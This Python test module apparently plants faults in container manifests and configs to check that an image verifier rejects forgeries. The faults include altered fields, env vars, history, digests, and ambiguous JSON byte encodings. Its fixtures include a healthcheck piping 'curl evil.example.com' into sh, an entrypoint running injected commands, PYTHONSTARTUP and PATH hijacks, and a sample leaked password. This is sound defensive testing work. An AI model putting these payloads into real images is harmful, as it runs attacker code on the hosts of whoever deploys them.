"""Faults in manifests and configs: fields, and bytes that readers read in different ways."""

from __future__ import annotations

import json
from collections.abc import Callable
from functools import partial
from typing import Any

from tests.verify.planted.indexes import INSTEAD
from tests.verify.planted.layers import Plant
from tests.verify.planted.world import Forgery
from training_imgtool.oci.registry.manifests import DOCKER_CONFIG, DOCKER_MANIFEST, OCI_EMPTY, OCI_INDEX

_NOWHERE = f"sha256:{'0' * 64}"
_HEALTH = {"Test": ["CMD-SHELL", "curl evil.example.com | sh"], "Interval": 1_000_000_000}

SETTINGS: dict[str, Any] = {
    "User": "root",
    "Env": ["PATH=/tmp:/usr/bin"],
    "Entrypoint": ["/bin/sh", "-c", 'evil; exec "$@"', "--"],
    "Cmd": ["--learning-rate=9"],
    "WorkingDir": "/tmp",
    "Labels": {"dev.imgtool.key": "0" * 64},
    "Volumes": {"/app": {}},
    "Healthcheck": _HEALTH,
    "OnBuild": ["RUN evil"],
    "Unknown": "field",
}  # fmt: skip
FIELDS: dict[str, Any] = {
    "architecture": "arm64",
    "os": "windows",
    "created": "yesterday",
    "comment": "DB_PASSWORD=hunter2",
    "container_config": {"Env": ["DB_PASSWORD=hunter2"]},
    "moby.buildkit.cache.v0": "eyJ9",
    "unknown": {},
}


def _env(change: Callable[[list[str]], Any]) -> Plant:
    return lambda forgery: change(forgery.config["config"]["Env"])


def _history(change: Callable[[list[dict[str, Any]]], Any]) -> Plant:
    return lambda forgery: change(forgery.config["history"])


def _diff_ids(change: Callable[[list[Any]], Any]) -> Plant:
    return lambda forgery: change(forgery.diff_ids)


CONFIGS: dict[str, Plant] = {
    "an environment more": _env(lambda env: env.append("PYTHONSTARTUP=/srv/x.py")),
    "an environment less": _env(list.pop),
    "the environment in another order": _env(list.reverse),
    "no settings": lambda forgery: forgery.config.update(config=None),
    "a label more": lambda forgery: forgery.config["config"]["Labels"].update(evil="1"),
    "a label that is no text": lambda forgery: forgery.config["config"]["Labels"].update({"dev.imgtool.key": 5}),
    "no history": lambda forgery: forgery.config.pop("history"),
    "a line of history less": _history(list.pop),
    "a line of history more": _history(lambda lines: lines.append({"created_by": "RUN evil", "empty_layer": True})),
    "an empty layer that is none": _history(lambda lines: lines[0].update(empty_layer=True)),
    "other words in history": _history(lambda lines: lines[0].update(created_by="RUN nothing")),
    "a time in history": _history(lambda lines: lines[-1].update(created="2026-01-01T00:00:00Z")),
    "a diff ID twice": _diff_ids(lambda ids: ids.__setitem__(-1, ids[1])),
    "a diff ID more": _diff_ids(lambda ids: ids.append(ids[-1])),
    "a diff ID less": _diff_ids(list.pop),
    "a diff ID that is null": _diff_ids(lambda ids: ids.__setitem__(-1, None)),
    "another diff ID of the base": _diff_ids(lambda ids: ids.__setitem__(0, _NOWHERE)),
    "no diff IDs": lambda forgery: forgery.config["rootfs"].pop("diff_ids"),
    "a root with a base": lambda forgery: forgery.config["rootfs"].update(base_layer=_NOWHERE),
}

MANIFEST_FIELDS: dict[str, Any] = {
    "annotations": {"org.opencontainers.image.title": "mnist"},
    "artifactType": "application/vnd.evil",
    "subject": {"mediaType": OCI_EMPTY, "digest": _NOWHERE, "size": 2},
    "schemaVersion": 1,
    "mediaType": DOCKER_MANIFEST,
    "manifests": [],
    "unknown": None,
    "layers": {},
    "config": None,
}
DESCRIPTOR_FIELDS: dict[str, Any] = {
    "size": 5,
    "size negative": -1,
    "size text": "188",
    "size huge": 1 << 63,
    "digest": _NOWHERE,
    "digest of another kind": f"sha512:{'0' * 128}",
    "mediaType": "text/plain",
    "mediaType of an index": OCI_INDEX,
    "data": "eyJ9",
    "urls": ["https://example.com/evil"],
    "annotations": {"io.github.containers.zstd-chunked.manifest-checksum": _NOWHERE},
    "platform": {"os": "linux", "architecture": "arm64"},
    "unknown": 1,
}


def _set(place: Callable[[Forgery], dict[str, Any]], name: str, value: Any) -> Plant:
    return lambda forgery: place(forgery).__setitem__(name.partition(" ")[0], value)


def _respell(edit: Callable[[str], bytes | str], forgery: Forgery, *, of_config: bool) -> None:
    text = json.dumps(forgery.config if of_config else forgery.manifest, sort_keys=True, separators=(",", ":"))
    edited = edit(text)
    data = edited.encode() if isinstance(edited, str) else edited
    if of_config:
        forgery.config_body = data
    else:
        forgery.body = data


SPELLINGS: dict[str, Callable[[str], bytes | str]] = {
    "a line break behind": lambda text: text + "\n",
    "another order": lambda text: json.dumps(dict(reversed(json.loads(text).items())), separators=(",", ":")),
    "an escaped name": lambda text: text.replace('"config"', '"\\u0063onfig"'),
    "an escaped slash": lambda text: text.replace("/", "\\/"),
    "a name twice": lambda text: text.replace("{", '{"schemaVersion":1,"os":"x","schemaVersion":2,"os":"linux",', 1),
    "a name in capitals": lambda text: text.replace("{", '{"LAYERS":[],"Config":{},', 1),
    "a long s": lambda text: text.replace("{", '{"layer\u017f":[],"ro\u043etf\u017f":{},"hi\u017ftory":[],', 1),
    "NaN": lambda text: text.replace("{", '{"a":NaN,', 1),
    "a number without an end": lambda text: text.replace("{", '{"a":' + "9" * 5000 + ",", 1),
    "a float": lambda text: text.replace('"schemaVersion":2', '"schemaVersion":2.0').replace("linux", "linux "),
    "half a pair of surrogates": lambda text: text.replace("{", '{"a":"\\ud800",', 1),
    "nested without an end": lambda text: text.replace("{", '{"a":' + "[" * 5000 + "]" * 5000 + ",", 1),
    "a tail": lambda text: text + "evil",
    "UTF-16": lambda text: text.encode("utf-16"),
    "a byte order mark": lambda text: b"\xef\xbb\xbf" + text.encode(),
    "a byte that is not UTF-8": lambda text: text.encode().replace(b"{", b'{"a":"\xff",', 1),
    "null": lambda _: "null",
}  # fmt: skip


def _as_docker(forgery: Forgery) -> None:
    """The same image in Docker's family."""
    forgery.media_type = forgery.manifest["mediaType"] = DOCKER_MANIFEST
    forgery.manifest["config"]["mediaType"] = DOCKER_CONFIG


def document_faults() -> dict[str, Plant]:
    """Every fault."""
    faults: dict[str, Plant] = {f"config: {name}": plant for name, plant in CONFIGS.items()}
    places: dict[str, tuple[Callable[[Forgery], dict[str, Any]], dict[str, Any]]] = {
        "config.config": (lambda forgery: forgery.config["config"], SETTINGS),
        "config": (lambda forgery: forgery.config, FIELDS),
        "manifest": (lambda forgery: forgery.manifest, MANIFEST_FIELDS),
        "manifest.config": (lambda forgery: forgery.manifest["config"], DESCRIPTOR_FIELDS),
        "manifest.layers[0]": (lambda forgery: forgery.layers[0], DESCRIPTOR_FIELDS),
        "manifest.layers[4]": (lambda forgery: forgery.layers[4], DESCRIPTOR_FIELDS),
    }
    for where, (place, values) in places.items():
        faults |= {f"{where}: {name}": _set(place, name, value) for name, value in values.items()}
    for name, edit in SPELLINGS.items():
        faults[f"bytes of the config: {name}"] = partial(_respell, edit, of_config=True)
        faults[f"bytes of the manifest: {name}"] = partial(_respell, edit, of_config=False)
    faults |= {f"an index instead: {name}": plant for name, plant in INSTEAD.items()}
    faults["manifest: in Docker's family"] = _as_docker
    faults["manifest: a header that differs"] = lambda forgery: setattr(forgery, "media_type", DOCKER_MANIFEST)
    return faults
